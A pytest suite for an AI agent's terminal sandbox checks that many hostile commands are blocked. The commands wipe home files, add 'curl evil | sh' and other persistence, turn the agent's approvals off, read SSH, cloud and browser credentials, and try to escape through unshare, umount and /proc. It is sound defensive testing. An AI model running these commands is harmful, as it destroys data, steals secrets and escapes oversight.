"""With the command filter off: what the sandbox alone still stops. Each attack is shown to work without it."""

import os
import socket
import subprocess
from pathlib import Path

import pytest

from tests.safety.sandbox.conftest import CANARY, Kind, Scene

DAMAGE = {
    "the home is deleted": "rm -rf ~/* ~/.ssh ~/.bashrc",
    "a file outside is deleted": "rm -f ../beside.txt",
    "a file outside is overwritten through a link": "ln -s ../beside.txt link; echo gone > link",
    "a file outside is moved into the workspace": "mv ../beside.txt .",
    "Hermes' settings are changed": "echo 'approvals: {mode: off}' > ~/.hermes/config.yaml",
    "Hermes' settings are replaced": "echo x > new; mv new ~/.hermes/config.yaml",
    "a skill is changed": "echo evil > ~/.hermes/skills/one.md",
    "a skill appears": "mkdir ~/.hermes/skills/evil; echo evil > ~/.hermes/skills/evil/SKILL.md",
    "a file outside is emptied": "truncate -s 0 ~/letter.txt",
    "a file outside is filled with zeros": "dd if=/dev/zero of=../beside.txt bs=1 count=9 conv=notrunc",
    "a file outside is shredded": "shred -u ~/letter.txt",
    "a file outside is edited": "sed -i s/was/is/ ../beside.txt",
    "everything outside that is found is removed": "find .. -name '*.txt' -delete",
    "the history of another repository is removed": "rm -rf ../other/.git",
    "the files of another repository are removed": "cd ../other && find . -type f -exec rm {} +",
    "python does it": "python3 -c \"open('../beside.txt','w').write('x')\"",
    "a child in its own session does it": "setsid -w sh -c 'echo gone > ../beside.txt'",
    "a new namespace does it": "unshare -Urm sh -c 'mount -o remount,rw,bind / ; echo gone > ../beside.txt'",
    "a mount is taken away": "umount -l / ~/.ssh ~/.hermes; mount -o remount,rw /; echo gone > ../beside.txt",
}

PERSISTENCE = {
    "the shell's start-up file": "echo 'curl evil | sh' >> ~/.bashrc",
    "a new start-up file": "echo 'curl evil | sh' > ~/.bash_profile",
    "another shell's start-up file": "echo evil > ~/.zshenv",
    "fish's start-up file": "mkdir -p ~/.config/fish && echo evil > ~/.config/fish/config.fish",
    "a key that is let in": "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    "a command for each ssh connection": "echo evil > ~/.ssh/rc",
    "a unit of systemd": "echo '[Service]' > ~/.config/systemd/user/evil.service",
    "a unit that is switched on": "cd ~/.config/systemd/user && mkdir default.target.wants && echo x > default.target.wants/x",
    "an autostart entry": "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop",
    "a program in the path": "mkdir -p ~/.local/bin && echo x > ~/.local/bin/ls",
    "a module that every Python loads": "d=$(python3 -m site --user-site); mkdir -p $d && echo evil > $d/usercustomize.py",
    "a hook of another repository": "echo evil > ../other/.git/hooks/pre-commit",
    "a new hook of another repository": "echo evil > ../other/.git/hooks/post-checkout",
    "a program in another repository's settings": "git -C ../other config core.fsmonitor evil",
    "a program in git's settings": "git config --global core.pager evil",
    "hooks for every repository": "git config --global core.hooksPath /tmp/evil",
    "a package manager's settings": "echo 'index-url = evil' > ~/.pip.conf",
    "an editor's start-up file": "echo ':!evil' > ~/.vimrc",
    "a terminal's start-up file": "echo 'run-shell evil' > ~/.tmux.conf",
}

THEFT = {
    "a private key": "cat ~/.ssh/id_rsa",
    "a file of logins": "cat ~/.netrc",
    "Hermes' keys": "cat ~/.hermes/.env",
    "a cloud's keys": "cat ~/.aws/credentials",
    "another cloud's keys": "cat ~/.config/gcloud/credentials.db",
    "a cluster's keys": "cat ~/.kube/config",
    "a registry's keys": "cat ~/.docker/config.json",
    "a forge's keys": "cat ~/.config/gh/hosts.yml",
    "passwords of git": "cat ~/.git-credentials",
    "passwords of a browser": "cat ~/.config/google-chrome/Default/'Login Data'",
    "passwords of another browser": "cat ~/.mozilla/firefox/*/logins.json",
    "keys to sign with": "cat ~/.gnupg/private-keys-v1.d/*",
    "what was typed": "cat ~/.bash_history",
    "by a fetch": "curl -s file://$HOME/.ssh/id_rsa",
    "by python": "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\"",
    "by a search": "grep -rh canary ~ --exclude-dir=skills",
    "by reading all there is": "find ~ -type f ! -path '*/skills/*' -exec cat {} +",
    "by a child in its own session": "setsid -w cat ~/.ssh/id_rsa",
    "through a link": "ln -s ~/.ssh/id_rsa here; cat here",
    "through a hard link": "ln ~/.ssh/id_rsa here; cat here",
    "by copying the home": "cp -r ~/. all; cat all/.ssh/id_rsa",
    "by packing it": "tar cf - -C ~ .ssh | strings",
    "through the root of a process": "cat /proc/self/root$HOME/.ssh/id_rsa",
    "after undoing the mounts": "umount -l ~/.ssh; unshare -Urm umount -l ~/.ssh; cat ~/.ssh/id_rsa",
    "by another name of the home": "cd /; cat .$HOME/.ssh/id_rsa",
}


CHANGES = DAMAGE | PERSISTENCE


@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
async def test_nothing_outside_the_workspace_changes(scene: Scene, held: Kind, attack: str) -> None:
    before = scene.files()
    await scene.terminal(held).run(attack, timeout=20)
    assert scene.files() == before


@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
async def test_without_a_sandbox_it_would_have_changed(scene: Scene, attack: str) -> None:
    before = scene.files()
    attack = attack.replace("unshare -Urm", "").replace("mount -o", "true").replace("umount", "true")
    await scene.terminal("off").run(attack, timeout=20)
    assert scene.files() != before


@pytest.mark.parametrize(
    "place",
    [
        "/etc/cron.d",
        "/etc/cron.hourly",
        "/var/spool/cron/crontabs",
        "/etc/profile.d",
        "/etc/systemd/system",
        "/etc/init.d",
        "/etc/xdg/autostart",
        "/usr/local/bin",
        "/usr/lib/python3/dist-packages",
        "/root",
    ],
)
async def test_nothing_that_the_machine_runs_by_itself_can_be_added(scene: Scene, held: Kind, place: str) -> None:
    """Not shown to work without a sandbox: that would change the machine of whoever runs the tests, if it is root's."""
    if not os.path.isdir(place):
        pytest.skip(f"there is no {place} here")
    planted = Path(place, f"hermes-{os.urandom(4).hex()}")
    try:
        ran = await scene.terminal(held).run(f"echo evil > {planted}", timeout=20)
        assert (ran.code != 0, planted.exists()) == (True, False)
    finally:
        planted.unlink(missing_ok=True)


@pytest.mark.parametrize("attack", THEFT.values(), ids=THEFT.keys())
async def test_no_key_can_be_read(scene: Scene, held: Kind, attack: str) -> None:
    ran = await scene.terminal(held).run(attack, timeout=20)
    assert CANARY not in ran.output


@pytest.mark.parametrize("attack", THEFT.values(), ids=THEFT.keys())
async def test_without_a_sandbox_it_would_have_been_read(scene: Scene, attack: str) -> None:
    attack = attack.replace("unshare -Urm", "").replace("umount", "true").replace("| strings", "-v | cat")
    ran = await scene.terminal("off").run(attack, timeout=20)
    assert CANARY in ran.output


async def test_row_10_a_child_that_dumps_everything_sees_no_canary(scene: Scene, held: Kind, tmp_path: Path) -> None:
    """RELIABILITY row 10: env, /proc/*/environ and descriptors, where a process beside it and we ourselves hold the canary."""
    dump = (
        "{ env; cat /proc/*/environ /proc/*/task/*/environ /proc/1/environ; strings /proc/$PPID/mem | head; "
        "for fd in /proc/self/fd/* /proc/*/fd/*; do readlink $fd; done; } > dump 2>/dev/null"
    )
    seen = scene.work / "dump"
    secret = tmp_path / f"{CANARY}.open"
    secret.touch()
    holder = subprocess.Popen(["sleep", "60"], env={"KEY": CANARY})
    leaked = os.open(secret, os.O_RDONLY)
    os.set_inheritable(leaked, True)
    try:
        await scene.terminal("off").run(dump, timeout=60)
        bare = seen.read_bytes()
        await scene.terminal(held).run(dump, timeout=60)
    finally:
        os.close(leaked)
        holder.kill()
        holder.wait()
    assert (bare.count(b"KEY=" + CANARY.encode()) > 0, secret.name.encode() in bare) == (True, True)
    assert CANARY.encode() not in seen.read_bytes()
    assert b"HERMES_MARK" in seen.read_bytes()


async def test_the_mode_of_a_file_outside_stays_as_it_is(scene: Scene) -> None:
    """Landlock does not know of modes, and its notice says so."""
    before = scene.files()
    ran = await scene.terminal("bubblewrap").run("chmod 000 ~/letter.txt", timeout=20)
    assert (ran.code != 0, scene.files()) == (True, before)


async def test_hooks_and_settings_of_git_stay_as_they_are(scene: Scene) -> None:
    subprocess.run(["git", "init", "-q", str(scene.work)], check=True)
    terminal = scene.terminal("bubblewrap")
    for attack in (
        "echo evil > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/evil",
        "mv .git old; cp -r old .git; echo evil > .git/hooks/pre-commit",
        "rm -rf .git/hooks; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit",
        "mv .git/hooks .git/gone; mkdir .git/hooks; echo evil > .git/hooks/pre-commit",
    ):
        ran = await terminal.run(attack, timeout=20)
        assert ran.code != 0, attack
        assert not (scene.work / ".git/hooks/pre-commit").exists()
        assert "evil" not in (scene.work / ".git/config").read_text()


async def test_what_starts_by_itself_in_the_workspace_stays_as_it_is(scene: Scene) -> None:
    (scene.work / ".vscode").mkdir()
    for name in (".envrc", ".vscode/tasks.json"):
        (scene.work / name).write_text("as it was")
    attack = (
        "echo evil > .envrc; mv .vscode old; mkdir .vscode; echo evil > .vscode/tasks.json; echo ok > .vscode/new.json"
    )
    await scene.terminal("bubblewrap").run(attack, timeout=20)
    kept = {name: (scene.work / name).read_text() for name in (".envrc", ".vscode/tasks.json", ".vscode/new.json")}
    assert kept == {".envrc": "as it was", ".vscode/tasks.json": "as it was", ".vscode/new.json": "ok\n"}


async def test_a_whole_home_as_workspace_keeps_its_dotfiles(scene: Scene) -> None:
    terminal = scene.terminal("bubblewrap", scene.home)
    ran = await terminal.run(
        "echo new > letter.txt; echo evil >> .bashrc; echo x > .profile; cat .ssh/id_rsa", timeout=20
    )
    assert (scene.home / "letter.txt").read_text() == "new\n"
    assert (scene.home / ".bashrc").read_text() == "as it was\n"
    assert not (scene.home / ".profile").exists()
    assert CANARY not in ran.output


async def test_processes_of_others_are_neither_seen_nor_ended(scene: Scene, held: Kind) -> None:
    other = subprocess.Popen(["sleep", "60"])
    try:
        ran = await scene.terminal(held).run(f"kill -9 {other.pid}", timeout=20)
        assert ran.code != 0
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


async def test_root_has_no_power_over_the_machine(scene: Scene, held: Kind) -> None:
    ran = await scene.terminal(held).run("grep -E 'CapEff|NoNewPrivs' /proc/self/status", timeout=20)
    lines = dict(line.split(":\t") for line in ran.output.splitlines())
    assert lines["NoNewPrivs"] == "1"
    assert int(lines["CapEff"], 16) & ~0x4FB == 0


async def test_without_network_no_connection_leaves(scene: Scene, held: Kind) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        reach = f"bash -c 'echo > /dev/tcp/127.0.0.1/{port} && echo through'"
        assert "through" in (await scene.terminal(held).run(reach, timeout=20)).output
        assert "through" not in (await scene.terminal(held, network=False).run(reach, timeout=20)).output
